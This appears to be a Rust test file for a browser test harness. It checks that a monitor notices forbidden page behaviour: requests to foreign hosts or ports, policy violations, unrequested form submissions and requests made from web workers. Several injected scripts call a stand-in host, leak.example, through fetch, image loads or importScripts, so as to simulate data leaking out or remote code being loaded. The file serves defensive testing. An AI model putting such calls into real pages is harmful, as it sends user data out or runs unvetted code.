//! The checks that hold on every day, put to the test: each engine has to notice what must never happen. A check that
//! cannot see a broken promise would pass for ever.

use super::tests;
use crate::crew::{Crew, Options};
use crate::day::Day;
use crate::steps;
use crate::trouble::{Outcome, expect};
use serde_json::json;

tests!(
    Control: a_request_to_another_host_is_noticed,
    a_request_to_another_port_is_noticed,
    a_violation_of_the_policy_is_noticed,
    a_line_on_the_console_is_noticed,
    a_start_that_nobody_asked_for_is_noticed,
    a_start_that_nobody_noted_is_noticed,
    a_request_of_a_worker_is_noticed,
    a_violation_by_a_worker_is_noticed,
);

/// The page may ask any host that a person names, so its policy does not stop this one.
const FETCH: &str = "fetch(arguments[0], { mode: 'no-cors' }).catch(() => {})";

const START: &str = "return fetch(new Request(arguments[0], { method: 'POST', headers: { 'Content-Type': 'application/json' }, \
    body: JSON.stringify({ inputs: {}, meta: { requestId: 'again' } }) })).then(() => 0)";

async fn a_request_to_another_host_is_noticed(day: &Day) -> Outcome {
    steps::open(day).await?;
    day.promises().await?;
    day.page.script(FETCH, vec![json!("http://leak.example/seen")]).await?;
    is_noticed(day, "leak.example").await
}

async fn a_request_to_another_port_is_noticed(day: &Day) -> Outcome {
    let stranger = Crew::start(Options::default()).await?;
    steps::open(day).await?;
    day.promises().await?;
    day.page.script(FETCH, vec![json!(format!("{}/seen", stranger.address()))]).await?;
    is_noticed(day, &stranger.address()).await
}

async fn a_violation_of_the_policy_is_noticed(day: &Day) -> Outcome {
    steps::open(day).await?;
    day.promises().await?;
    day.page.script("new Image().src = 'http://leak.example/chart.png'", vec![]).await?;
    is_noticed(day, "img-src").await
}

async fn a_start_that_nobody_asked_for_is_noticed(day: &Day) -> Outcome {
    let crew = steps::at_the_form(day).await?;
    day.promises().await?;
    day.page.script(START, vec![json!(format!("{}/kickoff", crew.address()))]).await?;
    is_noticed(day, "asked for 0 starts").await
}

/// A page in which nothing notes starts may make none.
async fn a_start_that_nobody_noted_is_noticed(day: &Day) -> Outcome {
    let crew = steps::at_the_form(day).await?;
    day.page.script(START, vec![json!(format!("{}/kickoff", crew.address()))]).await?;
    day.page.script("window.name = ''", vec![]).await?;
    is_noticed(day, "starts that nobody noted").await
}

/// The reader is one.
async fn a_request_of_a_worker_is_noticed(day: &Day) -> Outcome {
    steps::open(day).await?;
    day.promises().await?;
    worker(day, "fetch('http://leak.example/seen', { mode: 'no-cors' }).catch(() => {})").await?;
    is_noticed(day, "leak.example").await
}

/// Where a document is its own witness it hears nothing of that; what gets through there, the canary hears.
async fn a_violation_by_a_worker_is_noticed(day: &Day) -> Outcome {
    if !day.wanted.engine.has_devtools() {
        return Ok(());
    }
    steps::open(day).await?;
    day.promises().await?;
    worker(day, "try { importScripts('http://leak.example/part.js') } catch {}").await?;
    is_noticed(day, "script-src").await
}

/// A worker of the kind that the policy lets the page have, which does this.
async fn worker(day: &Day, code: &str) -> Outcome {
    let start = "new Worker(URL.createObjectURL(new Blob([arguments[0]])))";
    day.page.script(start, vec![json!(code)]).await.map(drop)
}

/// The day's promises are broken, and the trouble says how.
async fn is_noticed(day: &Day, words: &str) -> Outcome {
    let noticed = async || Ok(day.promises().await.is_err_and(|trouble| trouble.to_string().contains(words)));
    day.page.until(&format!("a broken promise is noticed: {words}"), noticed).await
}

async fn a_line_on_the_console_is_noticed(day: &Day) -> Outcome {
    steps::open(day).await?;
    day.page.script("console.warn('a word from the page')", vec![]).await?;
    let lines = day.page.console().await?;
    let there = lines.iter().any(|line| line.contains("a word from the page"));
    expect(there, || format!("the console has only {lines:?}"))
}
